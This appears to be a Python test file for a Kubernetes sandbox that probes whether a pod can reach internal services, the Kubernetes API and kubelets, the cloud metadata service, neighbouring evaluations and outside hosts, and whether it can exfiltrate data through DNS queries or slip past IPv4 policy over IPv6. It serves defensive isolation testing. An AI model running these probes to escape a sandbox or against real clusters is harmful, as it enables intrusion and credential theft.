"""Attacks over the network: everything that has an address, by every protocol that might get there.

An attack works if its target answers: a packet that leaves and is dropped is no success, and no attack sends anything to where the
cluster does not end.
"""

from __future__ import annotations

import os
import socket
import struct
import time
from collections.abc import Callable

from tests.kubernetes.attacks.trying import Facts, RefusedError, attack

SECONDS = 2.0
DATAGRAMS = 3
# Calico gives the node's end of every Pod's link this address.
NODE_LINK_LOCAL = "fe80::ecee:eeff:feee:eeee"
ALL_NODES = "ff02::1"


# --- how to reach something -------------------------------------------------------------------------------------------------


def tcp(host: str, port: int, family: int = socket.AF_INET) -> str:
    """Connect."""
    with socket.socket(family) as client:
        client.settimeout(SECONDS)
        client.connect(socket.getaddrinfo(host, port, family, socket.SOCK_STREAM)[0][4])
        return f"connected to {client.getpeername()[0]} port {port}"


def udp(host: str, port: int, data: bytes = b"attack", family: int = socket.AF_INET) -> str:
    """Send a datagram and wait for the answer, several times, since one may get lost and who answers may be slow."""
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(SECONDS / 2)
        address = socket.getaddrinfo(host, port, family, socket.SOCK_DGRAM)[0][4]
        for _ in range(DATAGRAMS):
            client.sendto(data, address)
            try:
                answer, who = client.recvfrom(2000)
            except TimeoutError:
                continue
            return f"{who[0]} answered with {len(answer)} bytes"
    raise TimeoutError


def every_node(facts: Facts, reach: Callable[[str], str]) -> str:
    """Try each node, the own one among them, and say which were reached; fail as the last one does if none was."""
    reached, failure = [], OSError()
    for address in facts["nodes"]:
        try:
            reach(address)
            reached.append(address)
        except OSError as error:
            failure = error
    if not reached:
        raise failure
    return f"reached {', '.join(reached)}"


def question(name: str, kind: int = 1) -> bytes:
    """Make a DNS query (RFC 1035, section 4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def dns_udp(server: str, name: str, port: int = 53) -> str:
    """Ask a name server over UDP."""
    return udp(server, port, question(name))


def dns_tcp(server: str, name: str, port: int = 53) -> str:
    """Ask a name server over TCP."""
    with socket.create_connection((server, port), timeout=SECONDS) as client:
        query = question(name)
        client.sendall(struct.pack("!H", len(query)) + query)
        answer = client.recv(2000)
    if len(answer) < 12:
        raise RefusedError("the server said nothing")
    return f"{server} answered with {len(answer)} bytes"


def checksum(data: bytes) -> int:
    """Return the checksum of RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ping(host: str) -> str:
    """Send an ICMP echo and wait for its reply, with the kind of socket that needs no privilege."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.settimeout(SECONDS)
        head = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, 1)
        client.sendto(struct.pack("!BBHHH", 8, 0, checksum(head), os.getpid() & 0xFFFF, 1), (host, 0))
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            answer, who = client.recvfrom(2000)
            if who[0] == host and answer[0] == 0:
                return f"{host} answered"
    raise TimeoutError


def scope() -> int:
    """Return the number of the interface that leads out."""
    for number, name in socket.if_nameindex():
        if name != "lo":
            return number
    raise RefusedError("there is no interface but the loopback")


# --- the platform's own services --------------------------------------------------------------------------------------------


def service(facts: Facts, name: str) -> tuple[str, int]:
    """Return the address and port of a service."""
    found = facts["services"][name]
    return found["ip"], found["port"]


@attack
def redis_by_address(facts: Facts) -> str:
    """Connect to Redis by its service's address."""
    return tcp(*service(facts, "redis"))


@attack
def rabbitmq_by_address(facts: Facts) -> str:
    """Connect to RabbitMQ by its service's address."""
    return tcp(*service(facts, "rabbitmq"))


@attack
def postgres_by_address(facts: Facts) -> str:
    """Connect to PostgreSQL by its service's address."""
    return tcp(*service(facts, "postgres"))


@attack
def api_by_address(facts: Facts) -> str:
    """Connect to the platform's API by its service's address."""
    return tcp(*service(facts, "api"))


@attack
def service_by_pod_address(facts: Facts) -> str:
    """Connect to the Pod behind a service, past the service."""
    return tcp(facts["service_pod"], facts["services"]["redis"]["port"])


@attack
def service_by_udp(facts: Facts) -> str:
    """Send a datagram to a Pod of another namespace."""
    return udp(facts["service_pod"], facts["udp_port"])


@attack
def node_ports(facts: Facts) -> str:
    """Reach a service through the port that it has on every node."""
    return every_node(facts, lambda node: tcp(node, facts["node_port"]))


# --- names ------------------------------------------------------------------------------------------------------------------


@attack
def resolver_of_the_sandbox(facts: Facts) -> str:
    """Resolve a service's name with whatever resolver the sandbox is configured for."""
    try:
        return str(socket.getaddrinfo(facts["services"]["redis"]["name"], 6379)[0][4])
    except socket.gaierror as error:
        raise RefusedError(f"no such name: {error.strerror}") from None


@attack
def dns_service_over_udp(facts: Facts) -> str:
    """Resolve a name at the cluster's DNS service over UDP."""
    return dns_udp(facts["dns"]["service"], facts["services"]["redis"]["name"])


@attack
def dns_service_over_tcp(facts: Facts) -> str:
    """Resolve a name at the cluster's DNS service over TCP."""
    return dns_tcp(facts["dns"]["service"], facts["services"]["redis"]["name"])


@attack
def dns_pod_over_udp(facts: Facts) -> str:
    """Resolve a name at the DNS server's Pod over UDP."""
    return dns_udp(facts["dns"]["pod"], facts["services"]["redis"]["name"])


@attack
def dns_pod_over_tcp(facts: Facts) -> str:
    """Resolve a name at the DNS server's Pod over TCP."""
    return dns_tcp(facts["dns"]["pod"], facts["services"]["redis"]["name"])


@attack
def dns_exfiltration_through_the_cluster(facts: Facts) -> str:
    """Carry data out in the labels of a name that the cluster's DNS passes on."""
    stolen = os.urandom(24).hex()
    return dns_udp(facts["dns"]["service"], f"{stolen}.exfiltration.invalid")


@attack
def dns_exfiltration_to_a_node(facts: Facts) -> str:
    """Carry data out in a query to a name server on a node."""
    name = f"{os.urandom(24).hex()}.exfiltration.invalid"
    return every_node(facts, lambda node: dns_udp(node, name, facts["host_udp_port"]))


@attack
def dns_exfiltration_to_any_server(facts: Facts) -> str:
    """Carry data out in a query to a name server outside the cluster."""
    return dns_udp(facts["outside"], f"{os.urandom(24).hex()}.exfiltration.invalid", facts["host_udp_port"])


# --- the control plane, the nodes, the world -----------------------------------------------------------------------------------


@attack
def api_server_by_service(facts: Facts) -> str:
    """Connect to the Kubernetes API by its service's address."""
    return tcp(*facts["api_server"]["service"])


@attack
def api_server_by_node(facts: Facts) -> str:
    """Connect to the Kubernetes API by its node's address."""
    return tcp(*facts["api_server"]["node"])


@attack
def kubelets(facts: Facts) -> str:
    """Connect to the kubelet of a node."""
    return every_node(facts, lambda node: tcp(node, 10250))


@attack
def ports_of_nodes(facts: Facts) -> str:
    """Connect to a port on which a program of a node listens."""
    return every_node(facts, lambda node: tcp(node, facts["host_port"]))


@attack
def ports_of_nodes_over_udp(facts: Facts) -> str:
    """Send a datagram to a program of a node."""
    return every_node(facts, lambda node: udp(node, facts["host_udp_port"]))


@attack
def ping_of_nodes(facts: Facts) -> str:
    """Ping a node."""
    return every_node(facts, ping)


@attack
def metadata_service(facts: Facts) -> str:
    """Ask the cloud's metadata service, which would hand out the node's credentials."""
    return tcp("169.254.169.254", 80)


@attack
def outside_over_tcp(facts: Facts) -> str:
    """Connect to a machine outside the cluster."""
    return tcp(facts["outside"], facts["host_port"])


@attack
def outside_over_udp(facts: Facts) -> str:
    """Send a datagram to a machine outside the cluster."""
    return udp(facts["outside"], facts["host_udp_port"])


@attack
def ping_of_a_pod(facts: Facts) -> str:
    """Ping a Pod on another node."""
    return ping(facts["service_pod"])


@attack
def neighbour(facts: Facts) -> str:
    """Connect to another evaluation that listens."""
    return tcp(facts["neighbour"], facts["neighbour_port"])


@attack
def neighbour_by_udp(facts: Facts) -> str:
    """Send a datagram to another evaluation that listens."""
    return udp(facts["neighbour"], facts["neighbour_port"])


@attack
def node_over_ipv6_link_local(facts: Facts) -> str:
    """Connect to the own node by the IPv6 address of its end of the link, which no IPv4 policy covers."""
    with socket.socket(socket.AF_INET6) as client:
        client.settimeout(SECONDS)
        client.connect((NODE_LINK_LOCAL, facts["host_port"], 0, scope()))
        return f"connected to {client.getpeername()[0]}"


@attack
def node_over_ipv6_multicast(facts: Facts) -> str:
    """Send a datagram to all nodes of the link over IPv6."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as client:
        client.settimeout(SECONDS)
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope())
        client.sendto(b"attack", (ALL_NODES, facts["host_udp_port"], 0, scope()))
        return f"{client.recvfrom(2000)[1][0]} answered"
